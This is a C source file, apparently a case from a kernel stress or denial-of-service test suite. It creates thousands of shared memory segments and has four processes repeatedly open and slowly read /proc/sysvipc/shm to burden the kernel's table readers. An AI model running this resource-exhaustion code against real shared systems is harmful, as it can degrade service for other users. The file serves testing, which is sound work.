// Opens /proc/sysvipc/shm a thousand times in each of four processes and reads it byte by byte,
// with thousands of segments in it.
#include "attack.h"

static void read_slowly(void* unused, int number) {
  (void)unused;
  (void)number;
  const struct rlimit many = {2000, 2000};
  setrlimit(RLIMIT_NOFILE, &many);
  static int files[1000];
  while (!time_is_up()) {
    for (int i = 0; i < 1000; ++i) {
      files[i] = open("/proc/sysvipc/shm", O_RDONLY);
      char byte;
      if (files[i] >= 0 && read(files[i], &byte, 1) != 1) close(files[i]);
    }
    for (int i = 0; i < 1000; ++i) {
      char some[4000];
      if (files[i] >= 0 && pread(files[i], some, sizeof some, 4000) < 0) continue;
    }
    for (int i = 0; i < 1000; ++i) close(files[i]);
  }
}

void attack_table_readers(void) {
  for (int made = 0; made < 3000; ++made) {
    if (make_segment(1, 0600) < 0) break;
  }
  crowd(4, read_slowly, NULL);
  wait_for_crowd();
}
